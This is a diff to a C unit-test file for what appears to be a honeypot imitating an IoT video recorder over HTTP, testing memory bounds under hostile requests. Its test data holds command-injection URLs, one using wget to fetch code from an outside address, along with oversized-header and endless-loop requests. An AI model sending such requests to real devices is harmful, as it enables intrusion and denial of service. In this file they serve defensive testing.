@@ -235,12 +235,56 @@ static void bounded(void **state)
     play_release(&p);
 }
 
+static void ask_web(struct play *p, const char *request)
+{
+    conn_input(p->conn, request, strlen(request), p->now);
+    run(p);
+}
+
+/* What a visitor by HTTP costs: silent, behind an answer, in a head and a body as long as can be, and while a command says more and
+ * more. */
+static void web_costs(void **state)
+{
+    (void)state;
+    static char head[9000] = "POST / HTTP/1.1\r\nHost: a\r\nA: ";
+    static const char body[] = "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n";
+    static const char loop[] = "GET /shell?while+:;do+echo+aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa;done HTTP/1.1\r\n\r\n";
+    struct play p;
+    begin(&p, "web costs");
+    play_visit_at(&p, play_persona("hi3536-recorder"), 0xc0000201, 0xcb007105, SERVICE_HTTP, 60001);
+    size_t silent = conn_memory(p.conn);
+    ask_web(&p, "GET / HTTP/1.1\r\n\r\n");
+    size_t served = conn_memory(p.conn);
+    ask_web(&p, "GET /shell?echo+a>/tmp/b;wget+http://192.0.2.1/c HTTP/1.1\r\n\r\n");
+    print_message("silent: %zu bytes, answered: %zu, behind a command: %zu\n", silent, served, conn_memory(p.conn));
+    assert_true(silent <= 2048 && served <= 2048 && conn_memory(p.conn) <= 4096);
+    memset(head + strlen(head), 'b', 8100);
+    ask_web(&p, head);
+    assert_true(conn_memory(p.conn) <= 16 << 10);
+    play_visit_at(&p, play_persona("hi3536-recorder"), 0xc0000201, 0xcb007105, SERVICE_HTTP, 60001);
+    ask_web(&p, body);
+    for (int i = 0; i < 100; i++) {
+        conn_input(p.conn, head, 4096, p.now);
+        run(&p);
+        assert_true(conn_memory(p.conn) <= 80 << 10);
+    }
+    assert_true(p.state == CONN_WAITS);
+    play_visit_at(&p, play_persona("hi3536-recorder"), 0xc0000201, 0xcb007105, SERVICE_HTTP, 60001);
+    conn_input(p.conn, loop, sizeof loop - 1, p.now);
+    for (int i = 0; i < 1000; i++) {
+        p.state = conn_run(p.conn, TURN, p.now);
+        assert_true(conn_memory(p.conn) <= 512 << 10);
+    }
+    assert_true(p.state == CONN_RUNNING); /* and so until its steps are used up */
+    play_release(&p);
+}
+
 /* What was said behind something that takes several turns is taken without a further word, or a time that passes. */
 static void waits_behind_a_shell(void **state)
 {
     (void)state;
-    static const char asked[] = "GET /?a=;id;n=0;while+[+$n+-lt+900+];do+n=$((n%2b1));done HTTP/1.1\r\n\r\n"
-                                "GET /behind HTTP/1.1\r\n\r\n";
+    static const char asked[] = "GET /?a=;id;n=0;while+[+$n+-lt+900+];do+n=$((n%2b1));done HTTP/1.1\r\nHost: a\r\n\r\n"
+                                "GET /behind HTTP/1.1\r\nHost: a\r\n\r\n";
     enum { FEW = 500 };
     struct play p;
     unsigned turns = 0;
@@ -486,6 +530,7 @@ int main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(transcripts), cmocka_unit_test(in_pieces), cmocka_unit_test(costs), cmocka_unit_test(bounded), cmocka_unit_test(waits_behind_a_shell),
+        cmocka_unit_test(web_costs),
         cmocka_unit_test(typed_ahead),
         cmocka_unit_test(typed_on),
         cmocka_unit_test(much),        cmocka_unit_test(budget),    cmocka_unit_test(idle),  cmocka_unit_test(steps),
